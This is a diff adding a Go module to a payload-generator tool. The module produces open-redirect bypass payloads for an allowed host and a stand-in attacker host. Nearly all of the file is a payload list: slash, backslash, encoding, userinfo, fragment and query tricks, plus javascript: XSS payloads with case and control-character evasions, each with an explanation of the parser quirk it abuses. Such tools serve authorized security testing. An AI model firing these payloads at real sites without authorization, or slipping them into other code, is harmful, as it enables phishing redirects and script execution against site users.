@@ -0,0 +1,70 @@
+package modules
+
+import "github.com/rajaabdullahnasir/Custom-Payload-Generator/utils"
+
+// defaultAttackerHost is used when --attacker-host is not given; .example is reserved and never resolves
+const defaultAttackerHost = "attacker.example"
+
+// RedirectPayload is an open-redirect target together with the parser quirk that makes it leave the allowed host
+type RedirectPayload struct {
+	Quirk       string          `json:"quirk"`
+	Explanation string          `json:"explanation"`
+	Payload     string          `json:"payload"`
+	Encodings   []utils.Variant `json:"encodings,omitempty"`
+}
+
+// Text returns the delivered form of the open-redirect payload
+func (p RedirectPayload) Text() string {
+	return p.Payload
+}
+
+func init() {
+	register("redirect", "Generate Open Redirect payloads", GenerateRedirectPayloads)
+}
+
+// redirectQuirks are written with {{allowed}} and {{attacker}} for the two hosts
+var redirectQuirks = []struct {
+	Quirk       string
+	Template    string
+	Explanation string
+}{
+	{"protocol-relative", "//{{attacker}}", "A leading // starts a network path, so the browser keeps the scheme and switches host; checks for a leading / pass."},
+	{"triple-slash", "///{{attacker}}", "Browsers collapse extra slashes before the host, while validators see an absolute path."},
+	{"backslash", `/\{{attacker}}`, "Browsers treat \\ as / in http(s) URLs, turning the path into a protocol-relative URL."},
+	{"double-backslash", `\\{{attacker}}`, "Both backslashes become slashes in the browser, while the server sees a relative path."},
+	{"tab-in-slashes", "/%09/{{attacker}}", "Browsers strip tab and newline characters from URLs, rejoining // after a validator saw /%09/."},
+	{"encoded-slashes", "/%2f%2f{{attacker}}", "A server that decodes the Location value once produces //attacker, which the validator never saw."},
+	{"encoded-trailing-slashes", "//{{attacker}}%2f%2f", "Encoded slashes after the host defeat path-based allowlists that look for a trailing /."},
+	{"scheme-no-slashes", "https:{{attacker}}", "Special schemes without slashes are still parsed with the following text as host."},
+	{"scheme-one-slash", "https:/{{attacker}}", "Browsers accept any number of slashes after a special scheme."},
+	{"subdomain-suffix", "https://{{allowed}}.{{attacker}}", "Checks that look for the allowed host as a prefix or substring accept a subdomain of the attacker's host."},
+	{"concatenated-host", "https://{{allowed}}{{attacker}}", "A startsWith check on the allowed host also matches a different host that begins with the same text."},
+	{"userinfo", "https://{{allowed}}@{{attacker}}", "Everything before @ is credentials, so the real host is the attacker's."},
+	{"userinfo-encoded", "https://{{allowed}}%40{{attacker}}", "The validator sees one host name; a server that decodes the value before redirecting turns %40 into @, leaving the allowed host as credentials."},
+	{"fragment-host", "https://{{attacker}}#{{allowed}}", "The allowed host only appears in the fragment, which substring checks still accept."},
+	{"fragment-userinfo", "https://{{attacker}}#@{{allowed}}", "Parsers that ignore # take the text after @ as host; browsers end the authority at #."},
+	{"query-host", "https://{{attacker}}?{{allowed}}", "The allowed host only appears in the query string, which substring checks still accept."},
+	{"path-host", "https://{{attacker}}/{{allowed}}", "The allowed host only appears in the path, which substring checks still accept."},
+	{"backslash-userinfo", `https://{{attacker}}\@{{allowed}}`, "RFC 3986 parsers read the text before @ as userinfo, while browsers turn \\ into / and stop at the attacker's host."},
+	{"javascript", "javascript:alert(document.domain)", "A redirect target that is not restricted to http(s) runs script in the allowed origin."},
+	{"javascript-comment", "javascript://{{allowed}}/%0aalert(document.domain)", "The allowed host sits in a // comment and the newline ends it, so host checks pass and script still runs."},
+	{"javascript-case", "JaVaScRiPt:alert(document.domain)", "Scheme names are case-insensitive, but blocklists often are not."},
+	{"javascript-control-char", "java%09script:alert(document.domain)", "Browsers strip tabs from URLs, so a blocklisted scheme survives the check."},
+}
+
+// GenerateRedirectPayloads writes every parser quirk for each {{allowed}} and {{attacker}} host,
+// which default to --allowed-host and --attacker-host
+func GenerateRedirectPayloads(opts Options) ([]RedirectPayload, error) {
+	var payloads []RedirectPayload
+	for _, q := range redirectQuirks {
+		for _, e := range expand(opts, q.Template) {
+			payloads = append(payloads, RedirectPayload{
+				Quirk:       q.Quirk,
+				Explanation: q.Explanation,
+				Payload:     e.Text,
+				Encodings:   utils.EncodeVariants(e.Text, opts.encoders()),
+			})
+		}
+	}
+	return payloads, nil
+}